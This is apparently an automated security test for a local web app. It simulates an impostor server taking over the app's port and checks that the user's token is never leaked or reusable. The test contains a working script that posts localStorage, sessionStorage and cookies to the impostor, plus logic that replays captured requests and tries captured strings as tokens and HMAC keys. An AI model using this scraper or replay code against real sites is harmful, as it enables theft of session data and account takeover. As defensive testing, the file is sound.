// The server ends while a tab is open, and another program takes its port: it writes down everything it is sent, answers as
// if it were the server, and serves a page of its own that looks at what the address keeps. Then it gives the port back, the
// server is started again, and nothing of what was written down opens it. The user opens the new link and goes on.

import assert from 'node:assert/strict';
import { createHmac, createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { appears, letGo, link, onStage, origin, part, play, stands } from './stage.mjs';

const port = Number(new URL(link).port);
const token = new URL(link).hash.slice('#token='.length);
const TYPED = 'half an answer that is nobody else\'s business';

/** @type {{method: string, url: string, headers: Record<string, any>, body: string}[]} */
const taken = [];
/** What its own page found. @type {string[]} */
const found = [];

/** Answers everything with what a server might have said. */
const thief = createServer((asked, answer) => {
  let body = '';
  asked.on('data', (part) => (body += part));
  asked.on('end', () => {
    const { method, url, headers } = asked;
    if (url === '/found') found.push(body);
    else taken.push({ method, url, headers: { ...headers }, body });
    if (url.startsWith('/api/live/')) {
      answer.writeHead(200, { 'content-type': 'text/event-stream', 'gadfly-proof': '0'.repeat(64) });
      answer.end('event: run\ndata: {"pwned": true}\n\n');
    } else if (url.startsWith('/api/hello')) {
      answer.writeHead(200, { 'content-type': 'application/json' });
      answer.end(JSON.stringify({ start: 'a'.repeat(32), proof: 'b'.repeat(64) }));
    } else if (url.startsWith('/api/')) {
      answer.writeHead(200, { 'content-type': 'application/json' });
      answer.end('{"said": "answered"}');
    } else if (url === '/mine.js') {
      answer.writeHead(200, { 'content-type': 'text/javascript' });
      answer.end(`fetch('/found', { method: 'POST', body: JSON.stringify({ ...localStorage, ...sessionStorage, cookies: document.cookie }) })
        .then(() => document.body.append('looked'));`);
    } else {
      answer.writeHead(200, { 'content-type': 'text/html' });
      answer.end('<!doctype html><title>Gadfly</title><body><script src="/mine.js"></script>');
    }
  });
});

/** @param {string} method @param {string} url @param {Record<string, any>} headers @param {string} body @returns {Promise<number>} */
function send(method, url, headers, body) {
  return new Promise((told, failed) => {
    const sent = request({ host: '127.0.0.1', port, method, path: url, headers }, (answer) => {
      told(answer.statusCode ?? 0);
      answer.destroy();
    });
    sent.on('error', failed);
    sent.end(body);
  });
}

await play(async (page, context) => {
  await page.locator('a', { hasText: 'Judge it yourself' }).first().click();
  const text = part(page, 'answer-text');
  await text.fill(TYPED);
  const run = new URL(page.url()).pathname.split('/').at(-1);
  letGo('end-the-server');
  await appears(onStage('it-has-ended'), 'the server has ended');
  await part(page, 'connection-strip').waitFor();
  await new Promise((told, failed) => thief.on('error', failed).listen(port, '127.0.0.1', () => told(undefined)));

  // The tab comes back by itself, and what it sends holds no secret.
  while (!taken.some((one) => one.headers.authorization)) await new Promise((wake) => setTimeout(wake, 50));
  assert.ok(!JSON.stringify(taken).includes(token), 'the thief was sent the token');
  // It says that this is somebody else.
  await part(page, 'connection-strip').filter({ hasText: 'not the server' }).waitFor();
  assert.ok(taken.length > 0, 'the tab asked');
  // Whatever a person does now goes to nobody.
  await part(page, 'reject').click();
  await part(page, 'question').getByRole('alert').filter({ hasText: 'not the server' }).waitFor();
  assert.equal(await text.inputValue(), TYPED);
  assert.ok(!taken.some((one) => one.body !== ''), 'nothing a person wrote was sent');
  // Loaded anew, the address shows the thief's own page, which sees all that the address keeps.
  const other = await context.newPage();
  await other.goto(`${origin}/`);
  await other.getByText('looked').waitFor();
  await other.close();
  assert.equal(found.length, 1);
  const everything = JSON.stringify([taken, found]);
  assert.ok(!everything.includes(token), 'the token was never sent, and is kept nowhere');

  thief.closeAllConnections();
  await new Promise((told) => thief.close(told));
  letGo('start-it-again');
  await appears(onStage('it-is-back'), 'the server is there again');
  const fresh = readFileSync(onStage('it-is-back'), 'utf8');
  const host = new URL(link).host;

  // All of it, as it was sent.
  for (const { method, url, headers, body } of taken.filter((one) => one.url.startsWith('/api/') && !one.url.startsWith('/api/hello'))) {
    assert.equal(await send(method, url, headers, body), 401, `${method} ${url} again`);
    const { authorization } = headers;
    for (const [way, to] of [['GET', '/api/runs'], ['POST', '/api/start/loop'], ['POST', `/api/runs/${run}/answer`]]) {
      const with_ = { host, authorization, 'content-type': 'application/json' };
      assert.equal(await send(way, to, with_, way === 'GET' ? '' : '{}'), 401, `${way} ${to} with what was taken`);
    }
  }
  // Every word of it, as a token and as a key to mark requests with.
  const words = new Set(everything.match(/[0-9A-Za-z_-]{16,}/g));
  assert.ok(words.size > 3, 'there is something to try');
  for (const word of words) {
    assert.equal(await send('GET', '/api/runs', { host, authorization: `Bearer ${word}` }, ''), 401, word);
    for (const key of [Buffer.from(word), Buffer.from(word, 'hex')]) {
      const nonce = randomBytes(16).toString('hex');
      const digest = createHash('sha256').update('').digest('hex');
      const mark = createHmac('sha256', key).update(`request\nGET\n/api/runs\n${nonce}\n${digest}`).digest('hex');
      const authorization = `Gadfly ${nonce}:${digest}:${mark}`;
      assert.equal(await send('GET', '/api/runs', { host, authorization }, ''), 401, `${word} as a key`);
    }
  }

  // The user goes on: the new link in another tab, the words in this one.
  const again = await context.newPage();
  await again.goto(fresh);
  await part(again, 'run-row').first().waitFor();
  await part(page, 'connection', '[data-state="live"]').waitFor();
  assert.equal(await text.inputValue(), TYPED);
  await part(page, 'approve').click();
  await stands(page, 'approved');
}, { expected: [/status of 40[19]|Failed to load resource: net::ERR_|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_CONNECTION/] });
